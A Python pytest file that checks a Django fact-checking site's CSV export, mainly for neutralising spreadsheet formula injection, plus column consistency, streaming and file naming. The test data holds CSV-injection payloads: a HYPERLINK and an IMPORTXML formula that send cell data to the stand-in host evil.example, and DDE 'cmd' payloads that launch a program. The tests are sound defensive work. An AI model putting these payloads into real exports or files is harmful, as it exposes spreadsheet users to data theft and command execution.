"""CSV for real use: fixed columns, whole lists, file names, and no cell a spreadsheet runs as a formula."""

import csv
import io
import re

import pytest

from facts.api import exports
from facts.models import Claim, Measure, Person
from facts.services import claim_review
from tests.factories import make_article, make_claim, make_person

pytestmark = pytest.mark.django_db

# What spreadsheets (Excel, LibreOffice Calc, Google Sheets) read as the start of a formula
# when a cell's text begins with it; a tab or carriage return first can hide one (OWASP).
FORMULA = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")


def as_a_spreadsheet_reads_it(content: bytes) -> list[list[str]]:
    """The cells as a spreadsheet shows them: RFC 4180 fields; a leading ' means text and is not shown.

    Fails on a cell the spreadsheet would evaluate: text starting a formula that is not a number.
    """
    rows = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
    shown = []
    for row in rows:
        for text in row:
            assert not (FORMULA.match(text) and not NUMBER.match(text)), f"a spreadsheet would run {text!r}"
        shown.append([text[1:] if text.startswith("'") else text for text in row])
    return shown


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile() -> list[Claim]:
    """Claims whose quote and speaker start like formulas, as text from a wire story can."""
    body = " ".join(f"[{text}]" for text in HOSTILE)
    article = make_article(body, title='=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")')
    speaker = make_person("@Evil Corp")
    return [make_claim(article, text, kind="assertion", speaker_person=speaker) for text in HOSTILE]


@pytest.mark.parametrize("url", ["/api/v1/claims/?format=csv", "/api/v1/claims/?format=csv&page_size=3"])
def test_no_cell_of_a_csv_runs_as_a_formula_in_a_spreadsheet(anonymous, hostile, url):
    response = anonymous.get(url)

    rows = as_a_spreadsheet_reads_it(body_of(response))
    header = rows[0]
    exact, title, speaker = header.index("passage.exact"), header.index("article.title"), header.index("speaker.name")
    shown = {row[exact] for row in rows[1:]}
    assert shown <= set(HOSTILE)  # shown as the text it is, once the spreadsheet drops the '
    assert {row[speaker] for row in rows[1:]} == {"@Evil Corp"}
    assert rows[1][title].startswith("=IMPORTXML")


def test_negative_numbers_stay_numbers(anonymous):
    assert exports.neutralise("-3.5") == "-3.5"
    assert exports.neutralise("-3.5+A1") == "'-3.5+A1"
    assert exports.neutralise("Kim said =") == "Kim said ="


def test_every_page_and_every_row_has_the_same_columns(anonymous, seed):
    first = anonymous.get("/api/v1/claims/?format=csv&page_size=5&speaker_type=article")
    later = anonymous.get("/api/v1/claims/?format=csv&page_size=5&speaker_type=person&ordering=start")
    whole = anonymous.get("/api/v1/claims/?format=csv")

    headers = {tuple(as_a_spreadsheet_reads_it(body_of(r))[0]) for r in (first, later, whole)}
    assert len(headers) == 1
    [header] = headers
    assert header[:4] == ("id", "url", "kind", "passage.article")
    assert {"speaker.name", "attribution.exact", "article.published_on"} <= set(header)
    assert all(len(row) == len(header) for row in as_a_spreadsheet_reads_it(body_of(whole)))


def test_a_record_as_csv_has_the_columns_of_its_list(anonymous, seed):
    claim = Claim.objects.filter(attribution_exact__isnull=False).first()

    single = as_a_spreadsheet_reads_it(anonymous.get(f"/api/v1/claims/{claim.pk}/?format=csv").content)
    listed = as_a_spreadsheet_reads_it(anonymous.get("/api/v1/claims/?format=csv&page_size=1").content)

    assert single[0] == listed[0]
    assert single[1][0] == str(claim.pk)


def test_urls_in_cells_are_the_records_own(anonymous, seed):
    rows = as_a_spreadsheet_reads_it(body_of(anonymous.get("/api/v1/claims/?format=csv")))

    urls = [cell for row in rows[1:] for cell in row if cell.startswith("http")]
    assert urls
    assert not [url for url in urls if "format=" in url]


def test_a_whole_list_is_exported_in_one_file_whatever_its_length(anonymous, seed, monkeypatch):
    monkeypatch.setattr(exports.keyset_chunks, "__defaults__", (7,))  # several chunks from the seed

    response = anonymous.get("/api/v1/claims/", {"format": "csv", "kind": "paraphrase"})

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = as_a_spreadsheet_reads_it(body_of(response))[1:]
    expected = Claim.objects.filter(kind="paraphrase").order_by("-id").values_list("id", flat=True)
    assert [int(row[0]) for row in rows] == list(expected)


def test_an_export_reads_the_database_a_chunk_at_a_time(anonymous, seed, monkeypatch, django_assert_num_queries):
    monkeypatch.setattr(exports.keyset_chunks, "__defaults__", (10,))
    response = anonymous.get("/api/v1/claims/?format=csv")
    lines = iter(response.streaming_content)

    # The header and the first chunk need one query, however long the list.
    with django_assert_num_queries(1):
        first = [next(lines) for _ in range(11)]

    assert first[0].startswith(b'"id","url"')


def test_the_file_is_named_after_the_list_and_the_day(anonymous, seed):
    flake = Person.objects.get(name="Gordon Flake")

    listed = anonymous.get("/api/v1/claims/?format=csv")
    paged = anonymous.get(f"/api/v1/people/{flake.pk}/claims/?format=csv&page_size=2")

    assert re.fullmatch(r'attachment; filename="factbase-claims-\d{4}-\d\d-\d\d\.csv"', listed["Content-Disposition"])
    assert f'filename="factbase-people-{flake.pk}-claims-' in paged["Content-Disposition"]


def test_a_comparison_is_a_table_with_a_row_per_figure(anonymous, seed):
    measure = Measure.objects.get(name="North Korean refugees in China")

    response = anonymous.get(f"/api/v1/measures/{measure.pk}/comparison/?format=csv")

    rows = as_a_spreadsheet_reads_it(response.content)
    header, figures = rows[0], rows[1:]
    assert len(figures) == measure.figures.count()
    assert header[-1] == "central_estimate"
    assert [row[header.index("central_estimate")] for row in figures] == ["173205.08", "300000", "44721.36"]
    assert f"factbase-measures-{measure.pk}-comparison-" in response["Content-Disposition"]


def test_claim_reviews_export_as_csv(anonymous, seed, editor_user):
    claim = Claim.objects.get(exact__startswith="They come to Thailand")
    claim_review(claim=claim, status="disputed", note="=The count is unclear.", reviewer=editor_user)

    rows = as_a_spreadsheet_reads_it(body_of(anonymous.get("/api/v1/claim-reviews/?format=csv")))

    header, [review] = rows[0], rows[1:]
    assert header[:3] == ["context", "type", "id"]
    assert review[header.index("claimReviewed")].startswith("“They come to Thailand")  # the quote, shortened
    assert review[header.index("reviewRating.alternateName")] == "Disputed"
    assert review[header.index("reviewBody")] == "=The count is unclear."
    assert review[header.index("itemReviewed.author.name")] == "Chun Ki-won"
